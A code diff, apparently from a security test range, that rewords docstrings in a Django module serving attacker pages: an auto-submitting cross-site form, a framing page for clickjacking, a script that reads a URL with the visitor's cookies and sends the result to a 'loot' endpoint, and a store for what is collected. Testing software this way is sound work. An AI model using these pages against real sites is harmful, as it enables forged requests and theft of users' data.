@@ -1,4 +1,4 @@
-"""Pages of the attacker, at a host of his or at a sibling of the victim's, for attacks on the project's own code."""
+"""The attacker's pages for attacks on the project's own code, at the attacker's host and at a sibling of the victim."""
 
 import json
 from collections.abc import Callable
@@ -12,7 +12,7 @@ from django.utils.safestring import SafeString, mark_safe
 from attack_range import attempts
 from attack_range.weak.bounds import forget
 
-# What of one attempt is kept of what reaches the attacker, and of each text.
+# Most texts that are kept of what reaches the attacker in one attempt, and most characters of each.
 LOOT_MAX, LENGTH_MAX = 100, 20_000
 PAGE = "<!doctype html><html lang=en><title>A prize</title><link rel=icon href='data:,'>{}"
 READ = """<script type=module>
@@ -27,7 +27,7 @@ View = Callable[[HttpRequest], HttpResponse]
 
 
 def wants(*names: str) -> Callable[[View], View]:
-    """Makes a view answer 400 where its query lacks one of these names."""
+    """Makes a view answer 400 when its query lacks one of these names."""
 
     def decorate(view: View) -> View:
         @wraps(view)
@@ -43,7 +43,7 @@ def wants(*names: str) -> Callable[[View], View]:
 
 @wants("to", "fields", "enctype")
 def form(request: HttpRequest) -> HttpResponse:
-    """A form that sends itself to `to`, with these `fields`, a JSON object. 400 for anything else."""
+    """A form that submits itself to `to`. 400 unless `fields` is a JSON object."""
     try:
         fields = dict(json.loads(request.GET["fields"]))
     except (ValueError, TypeError, RecursionError):
@@ -65,7 +65,7 @@ def image(request: HttpRequest) -> HttpResponse:
 
 @wants("to")
 def frame(request: HttpRequest) -> HttpResponse:
-    """A frame that shows `to`. A real one would be transparent, over a button of the attacker's page."""
+    """A frame that shows `to`. A real attacker would make it transparent and put it over a button of another page."""
     return _page("<iframe src='{}' width=1000 height=1000 title=Victim></iframe>", request.GET["to"])
 
 
@@ -77,7 +77,7 @@ def link(request: HttpRequest) -> HttpResponse:
 
 @wants("to", "loot")
 def read(request: HttpRequest) -> HttpResponse:
-    """A script that reads `to` with the visitor's cookies, and sends what it read to `loot`."""
+    """A script that reads `to` with the visitor's cookies, and sends the answer to `loot`."""
     script = READ.format(to=_as_script(request.GET["to"]), loot=_as_script(request.GET["loot"]))
     return _page("{}", mark_safe(script))  # noqa: S308
 
@@ -88,7 +88,7 @@ def steal(request: HttpRequest) -> HttpResponse:
 
 
 def loot(request: HttpRequest) -> HttpResponse:
-    """Keeps what reaches the attacker."""
+    """Stores what reaches the attacker."""
     if attempt := attempts.find(request.GET.get("attempt", "")):
         attempt.loot.append(request.body.decode(errors="replace")[:LENGTH_MAX])
         forget(attempt.loot, LOOT_MAX)
